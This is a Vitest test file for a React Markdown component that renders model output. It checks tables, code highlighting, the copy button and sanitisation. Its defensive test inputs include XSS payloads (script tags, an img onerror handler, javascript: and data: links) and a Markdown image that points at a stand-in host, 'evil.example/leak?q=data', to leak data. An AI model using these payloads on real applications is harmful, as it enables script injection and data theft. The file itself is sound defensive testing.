import { fireEvent, render, waitFor } from "@testing-library/react";
import { describe, expect, it, vi } from "vitest";
import { I18nProvider } from "../i18n";
import { Markdown } from "./Markdown";

function renderMarkdown(text: string): HTMLElement {
  const { container } = render(
    <I18nProvider lang="en">
      <Markdown text={text} />
    </I18nProvider>,
  );
  return container;
}

describe("Markdown rendering of model output", () => {
  it("renders GFM tables, code blocks, lists and emphasis", () => {
    const el = renderMarkdown(
      [
        "**bold** and ~~gone~~",
        "",
        "| Name | Age |",
        "| --- | --: |",
        "| Ann | 31 |",
        "",
        "```python",
        "print('hi')",
        "```",
        "",
        "- one",
        "- two",
      ].join("\n"),
    );
    expect(el.querySelector("strong")?.textContent).toBe("bold");
    expect(el.querySelector("del")?.textContent).toBe("gone");
    expect(el.querySelectorAll("table th")).toHaveLength(2);
    expect(el.querySelector("table td")?.textContent).toBe("Ann");
    const code = el.querySelector("pre code");
    expect(code?.textContent).toBe("print('hi')\n");
    expect(code?.className).toContain("language-python");
    expect(el.querySelectorAll("li")).toHaveLength(2);
  });

  it("shows script tags as text and never creates a script element", () => {
    const el = renderMarkdown('Hello <script>window.pwned = true</script>\n\n<script src="https://evil.example/x.js"></script>');
    expect(el.querySelector("script")).toBeNull();
    expect(el.textContent).toContain("<script>");
    expect((window as unknown as { pwned?: boolean }).pwned).toBeUndefined();
  });

  it("does not create img elements, from HTML or from Markdown image syntax", () => {
    const el = renderMarkdown(
      '<img src="https://evil.example/a.png" onerror="window.pwned=1">\n\n' +
        "![secret](https://evil.example/leak?q=data)",
    );
    expect(el.querySelector("img")).toBeNull();
    expect(el.querySelector("[onerror]")).toBeNull();
    expect(el.textContent).toContain('<img src="https://evil.example/a.png"');
    // The Markdown image becomes an ordinary link the person may choose to follow.
    const link = el.querySelector("a.md-image-link");
    expect(link?.textContent).toBe("secret");
  });

  it("does not render other raw HTML elements (iframe, style, event handlers)", () => {
    const el = renderMarkdown(
      '<iframe src="https://evil.example"></iframe>\n\n<style>body{display:none}</style>\n\n<b onclick="x()">bold?</b>',
    );
    expect(el.querySelector("iframe")).toBeNull();
    expect(el.querySelector("style")).toBeNull();
    expect(el.querySelector("b")).toBeNull();
    expect(el.querySelector("[onclick]")).toBeNull();
  });

  it("neutralises javascript:, vbscript: and data: links", () => {
    const el = renderMarkdown(
      "[click](javascript:alert(1)) [vb](vbscript:msgbox) [data](data:text/html;base64,PHNjcmlwdD4=) " +
        "<javascript:alert(2)>",
    );
    expect(el.textContent).toContain("click");
    for (const node of Array.from(el.querySelectorAll("[href], [src]"))) {
      const url = node.getAttribute("href") ?? node.getAttribute("src") ?? "";
      expect(url).not.toMatch(/^\s*(javascript|vbscript|data):/i);
    }
  });

  it("opens safe links in a new tab without giving the page a handle on the app", () => {
    const el = renderMarkdown("[docs](https://example.com/docs)");
    const a = el.querySelector("a");
    expect(a?.getAttribute("href")).toBe("https://example.com/docs");
    expect(a?.getAttribute("target")).toBe("_blank");
    expect(a?.getAttribute("rel")).toContain("noopener");
    expect(a?.getAttribute("rel")).toContain("noreferrer");
  });

  it("highlights fenced code of a known language into spans, and leaves unknown ones plain", async () => {
    const el = renderMarkdown("```python\ndef f(x):\n    return 'hi'  # note\n```\n\n```klingon\nqaStaH nuq\n```");
    // The highlighter arrives as a chunk of its own: the code is plain text until then.
    await waitFor(() => expect(el.querySelector("pre code.hljs")).not.toBeNull());
    const [python, other] = Array.from(el.querySelectorAll("pre code"));
    expect(python.classList.contains("hljs")).toBe(true);
    expect(python.querySelector(".hljs-keyword")?.textContent).toBe("def");
    expect(python.querySelector(".hljs-string")?.textContent).toBe("'hi'");
    expect(python.querySelector(".hljs-comment")?.textContent).toBe("# note");
    expect(python.textContent).toBe("def f(x):\n    return 'hi'  # note\n");
    expect(other.querySelector("span")).toBeNull();
    expect(other.textContent).toBe("qaStaH nuq\n");
  });

  it("keeps hostile code inside a highlighted block as text", async () => {
    const el = renderMarkdown("```html\n<script>window.pwned = 1</script><img src=x onerror=alert(1)>\n```");
    await waitFor(() => expect(el.querySelector("pre code .hljs-tag")).not.toBeNull());
    expect(el.querySelector("script")).toBeNull();
    expect(el.querySelector("img")).toBeNull();
    expect(el.querySelector("pre code")?.textContent).toContain("<script>window.pwned = 1</script>");
    expect(el.querySelector("pre code .hljs-tag")).not.toBeNull();
    expect((window as unknown as { pwned?: number }).pwned).toBeUndefined();
  });

  it("copies a code block's text, not its markup", async () => {
    const writeText = vi.fn(async () => undefined);
    Object.defineProperty(navigator, "clipboard", { value: { writeText }, configurable: true });
    const el = renderMarkdown("```js\nconst a = 1;\n```");
    const button = el.querySelector("[data-testid='code-copy']") as HTMLButtonElement;
    expect(button.getAttribute("aria-label")).toBe("Copy code");
    fireEvent.click(button);
    await waitFor(() => expect(button.textContent).toBe("Copied"));
    expect(writeText).toHaveBeenCalledWith("const a = 1;");
  });
});
